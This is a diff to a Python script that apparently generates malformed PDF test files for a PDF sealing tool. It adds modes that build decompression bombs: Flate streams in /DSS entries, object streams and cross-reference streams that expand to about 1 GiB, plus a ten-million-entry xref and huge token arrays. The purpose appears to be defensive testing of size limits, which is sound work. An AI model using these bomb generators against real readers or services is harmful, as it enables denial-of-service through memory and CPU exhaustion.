@@ -29,9 +29,28 @@
 #   dangling-prepare  (not an attack: makes the file to seal) page 1's /Contents also names an object that is
 #                   not defined (a reader draws nothing for it)
 #   dangling-define incremental update defining that object (found as the last reference in page 1's /Contents)
+# Decompression bombs (argument 4: the decoded size in MiB, where a default is given):
+#   dss-bomb        incremental update adding a /DSS whose /CRLs holds one FlateDecode stream of zeros (1024 MiB,
+#                   about 1 MB in the file)
+#   dss-bomb-refs   incremental update adding a /DSS whose /Certs, /OCSPs and /CRLs name one bomb of zeros (64 MiB)
+#                   30 times
+#   objstm-bomb     incremental update, with a cross-reference stream, moving the catalog into an object stream
+#                   whose data go on with zeros after it (1024 MiB): a reader decodes it all to find the catalog
+#   objstm-bomb-prepare  the same on a file not sealed (the input of a seal)
+#   objstm-string-prepare  (on a file not sealed) the catalog and a string of zeros (12 MiB) it names as /Bomb,
+#                   moved into a FlateDecode object stream: what `qpdf --object-streams=generate --encrypt` keeps in
+#                   an object stream, encrypted
+#   objstm-tokens   incremental update, with a cross-reference stream, moving the catalog into an object stream with
+#                   a /Bomb array of zeros (argument 4: thousands of them, default 3900: 7.8 MB, under the size caps,
+#                   from about 8 kB): a reader keeps each number as an object of its own
+#   xref-bomb       incremental update whose cross-reference stream holds its entries, then zeros (1024 MiB)
+#   xref-entries    incremental update whose cross-reference stream holds 10,000,000 entries (zeros: free entries,
+#                   70 kB in the file; a reader keeps each one)
 import re
+import struct
 import subprocess
 import sys
+import zlib
 
 
 def qpdf_run(*args):
@@ -123,6 +142,100 @@ def first_image(path):
         if d.get("/Subtype") == "/Image":
             return int(key.split(":")[1].split()[0])
     sys.exit("no image XObject in " + path)
+
+
+def zeros_zlib(n, prefix=b"", chunk=1 << 24):
+    """zlib data of prefix + n zero bytes, made in about a second for 1 GiB: after a full flush deflate restarts
+    from an empty window, so every chunk of zeros compresses to the same bytes, repeated here."""
+    c = zlib.compressobj(9)
+    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
+    body = c.compress(bytes(chunk)) + c.flush(zlib.Z_FULL_FLUSH)
+    rest = b""
+    if n % chunk:
+        c = zlib.compressobj(9)
+        rest = (c.compress(bytes(n % chunk)) + c.flush(zlib.Z_FULL_FLUSH))[2:]  # (without its zlib header)
+    adler = zlib.adler32(prefix)
+    lo, hi = adler & 0xffff, ((adler >> 16) + n * (adler & 0xffff)) % 65521  # zeros leave the low sum as it is
+    # an empty final fixed-Huffman block, then the checksum
+    return head + body * (n // chunk) + rest + b"\x03\x00" + struct.pack(">I", hi << 16 | lo)
+
+
+def mib(default):
+    return (int(sys.argv[4]) if len(sys.argv) > 4 else default) << 20
+
+
+def bomb_stream(n):
+    z = zeros_zlib(n)
+    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(z) + z + b"\nendstream"
+
+
+def add_dss(data, src, refs_of):
+    """An update adding /DSS to the catalog; refs_of(dss_number) gives {objects} and the DSS dictionary body."""
+    trailer = qpdf_obj(src, "trailer")
+    root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
+    dss = int(re.search(r"/Size (\d+)", trailer).group(1))
+    cat = qpdf_obj(src, str(root)).encode("latin-1")
+    objects, body = refs_of(dss)
+    objects[root] = cat[:-2] + b" /DSS %d 0 R >>" % dss
+    objects[dss] = body
+    return append_update(data, src, objects)
+
+
+def append_stream_update(data, path, objects, objstm=None, rows_tail=None, index=None):
+    """An update whose section is a cross-reference stream (W [1 4 2], with /Prev). objects: {id: body} written
+    as usual; objstm: (id, {id: text}, zeros) an object stream holding those objects, its data followed by that many
+    zero bytes; rows_tail: zero bytes after the entries; index: the /Index to declare instead (its data then are
+    zeros only)."""
+    trailer = qpdf_obj(path, "trailer")
+    size = int(re.search(r"/Size (\d+)", trailer).group(1))
+    root = re.search(r"/Root (\d+ \d+ R)", trailer).group(1)
+    out = bytearray(data)
+    if not out.endswith(b"\n"):
+        out += b"\n"
+    entries = {}
+    for oid in sorted(objects):
+        entries[oid] = (1, len(out), 0)
+        out += b"%d 0 obj\n" % oid + objects[oid] + b"\nendobj\n"
+    if objstm is not None:
+        sid, inner, zeros = objstm
+        heads, texts, pos = [], b"", 0
+        for k, oid in enumerate(sorted(inner)):
+            heads.append(b"%d %d" % (oid, pos))
+            texts += inner[oid] + b"\n"
+            pos = len(texts)
+            entries[oid] = (2, sid, k)
+        head = b" ".join(heads) + b"\n"
+        z = zeros_zlib(zeros, head + texts)
+        entries[sid] = (1, len(out), 0)
+        out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+                % (sid, len(inner), len(head), len(z)) + z + b"\nendstream\nendobj\n")
+    xid = max([size] + [i + 1 for i in entries])
+    entries[xid] = (1, len(out), 0)
+    rows = b"".join(struct.pack(">BIH", *entries[i]) for i in sorted(entries))
+    if index is None:
+        index = b" ".join(b"%d 1" % i for i in sorted(entries))
+        z = zeros_zlib(rows_tail, rows) if rows_tail else zlib.compress(rows)
+    else:
+        z = zeros_zlib(7 * sum(int(n) for n in index.split()[1::2]))
+    xref = len(out)
+    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Root %s /Prev %d /W [1 4 2] /Index [%s] /Filter /FlateDecode "
+            b"/Length %d >>\nstream\n" % (xid, xid + 1, root.encode(), last_startxref(data), index, len(z))
+            + z + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
+    return bytes(out)
+
+
+def catalog_in_objstm(data, src, zeros, string=0, numbers=0):
+    """The catalog moved into an object stream followed by zeros; with string, also a string of that many zeros the
+    catalog names as /Bomb; with numbers, a /Bomb array of that many zeros in the catalog."""
+    trailer = qpdf_obj(src, "trailer")
+    root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
+    sid = int(re.search(r"/Size (\d+)", trailer).group(1))
+    cat = qpdf_obj(src, str(root)).encode("latin-1")
+    extra = b" /Bomb %d 0 R" % (sid + 1) if string else b" /Bomb [" + b"0 " * numbers + b"]" if numbers else b""
+    inner = {root: cat[:-2] + extra + b" >>"}
+    if string:
+        inner[sid + 1] = b"(" + bytes(string) + b")"
+    return append_stream_update(data, src, {}, objstm=(sid, inner, zeros))
 
 
 def byte_range(data):
@@ -238,6 +351,23 @@ def main():
         else:
             sdict = sdict[:cm.start()] + sdict[cm.end():]
         data = append_update(data, src, {sid: sdict})
+    elif mode == "dss-bomb":
+        data = add_dss(data, src, lambda dss: ({dss + 1: bomb_stream(mib(1024))},
+                                               b"<< /Type /DSS /CRLs [%d 0 R] >>" % (dss + 1)))
+    elif mode == "dss-bomb-refs":
+        data = add_dss(data, src, lambda dss: ({dss + 1: bomb_stream(mib(64))},
+                                               b"<< /Type /DSS /Certs [%s] /OCSPs [%s] /CRLs [%s] >>"
+                                               % ((b" %d 0 R" % (dss + 1) * 10,) * 3)))
+    elif mode in ("objstm-bomb", "objstm-bomb-prepare"):
+        data = catalog_in_objstm(data, src, mib(1024))
+    elif mode == "objstm-string-prepare":
+        data = catalog_in_objstm(data, src, 0, mib(12))
+    elif mode == "objstm-tokens":
+        data = catalog_in_objstm(data, src, 0, numbers=1000 * (int(sys.argv[4]) if len(sys.argv) > 4 else 3900))
+    elif mode == "xref-bomb":
+        data = append_stream_update(data, src, {}, rows_tail=mib(1024))
+    elif mode == "xref-entries":
+        data = append_stream_update(data, src, {}, index=b"0 10000000")
     else:
         sys.exit("unknown mode " + mode)
     open(dst, "wb").write(data)
